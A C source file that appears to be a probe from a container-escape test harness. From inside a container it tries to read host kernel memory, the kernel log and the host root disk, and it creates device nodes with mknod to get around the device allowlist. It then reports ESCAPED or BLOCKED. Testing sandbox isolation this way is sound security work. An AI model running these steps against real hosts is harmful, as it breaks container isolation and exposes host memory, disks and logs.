/* Host memory, kernel log and devices: /dev/mem, /dev/kmem, /dev/port,
 * /dev/kmsg, /proc/kcore, /proc/kmsg and syslog(2); then mknod device
 * nodes (CAP_MKNOD is in Docker's default set) that are not in the
 * container's device list, and open them: /dev/mem, /dev/kmsg, the host's
 * root disk, a loop device, /dev/fuse, /dev/kvm. The host wrote a tagged
 * line to its kernel log first, and reads the container's devices cgroup
 * while this holds. */
#include "attack.h"
#include <sys/klog.h>
#include <sys/sysmacros.h>

static const char *tag;
static int leaked;

/* Reads what `fd` gives (a kernel log or memory); looks for the tag. */
static void drain(int fd, const char *what, int is_log) {
    static char buf[1 << 16];
    for (int i = 0; i < 100000; i++) {
        long n = read(fd, buf, sizeof buf - 1);
        if (n <= 0) {
            info("%s: opened, %d reads, then %s", what, i, n < 0 ? ename(errno) : "EOF");
            return;
        }
        buf[n] = 0;
        if (memmem(buf, n, tag, strlen(tag))) { leaked++; info("%s: host kernel log line seen", what); return; }
        if (!is_log) { leaked++; info("%s: read %ld bytes", what, n); return; }
    }
}

int main(void) {
    protocol_init("dev_mem");
    tag = param("ATTACK_KMSG_TAG");
    unsigned dmaj = 0, dmin = 0;
    sscanf(param("ATTACK_DISK"), "%u:%u", &dmaj, &dmin);
    const char *paths[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/proc/kcore", "/proc/kmsg"};
    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
        int fd = open(paths[i], O_RDONLY | O_NONBLOCK);
        if (fd < 0) { info("%s: %s", paths[i], ename(errno)); continue; }
        drain(fd, paths[i], strstr(paths[i], "kmsg") != NULL);
        close(fd);
    }
    static char log[1 << 20];
    int n = klogctl(3 /* SYSLOG_ACTION_READ_ALL */, log, sizeof log - 1);
    if (n < 0) info("syslog(READ_ALL): %s", ename(errno));
    else {
        int seen = memmem(log, n, tag, strlen(tag)) != NULL;
        info("syslog(READ_ALL): %d bytes, host line %s", n, seen ? "seen" : "not seen");
        if (seen) leaked++;
    }
    struct { const char *path; mode_t type; unsigned maj, min; } nodes[] = {
        {"/atoll-mem", S_IFCHR, 1, 1}, {"/atoll-kmsg", S_IFCHR, 1, 11}, {"/atoll-disk", S_IFBLK, dmaj, dmin},
        {"/atoll-loop0", S_IFBLK, 7, 0}, {"/atoll-fuse", S_IFCHR, 10, 229}, {"/atoll-kvm", S_IFCHR, 10, 232},
    };
    int made = 0, reached = 0;
    char merrs[128] = "";
    for (unsigned i = 0; i < sizeof nodes / sizeof *nodes; i++) {
        unlink(nodes[i].path);
        long r = mknod(nodes[i].path, nodes[i].type | 0600, makedev(nodes[i].maj, nodes[i].min));
        if (r < 0) {
            info("mknod %s: %s", nodes[i].path, ename(errno));
            if (!strstr(merrs, ename(errno))) { if (*merrs) strcat(merrs, "/"); strcat(merrs, ename(errno)); }
            continue;
        }
        made++;
        int fd = open(nodes[i].path, O_RDONLY | O_NONBLOCK);
        int e = fd < 0 ? errno : 0;
        info("open %s (%u:%u): %s", nodes[i].path, nodes[i].maj, nodes[i].min, ename(e));
        /* EPERM is the devices cgroup (or a capability check) saying no;
         * ENXIO/ENODEV mean the open got past it to a missing driver. */
        if (e == 0 || e == ENXIO || e == ENODEV) reached++;
        if (fd >= 0) {
            if (i == 2) drain(fd, "host disk", 0);
            close(fd);
        }
        unlink(nodes[i].path);
    }
    info("device nodes made %d, opened past the device list %d", made, reached);
    if (leaked)
        verdict("ESCAPED", "read host memory, disk or kernel log");
    else if (reached)
        verdict("ESCAPED", "mknod'd host device nodes open (/dev/kvm, /dev/fuse, loop devices): no device allowlist");
    else if (made)
        verdict("BLOCKED", "nothing of the host readable; mknod'd device nodes refused (EPERM)");
    else
        verdict("BLOCKED", "no device, kernel memory or host kernel log reachable; mknod refused (%s)", merrs);
    hold(10);
    return 0;
}
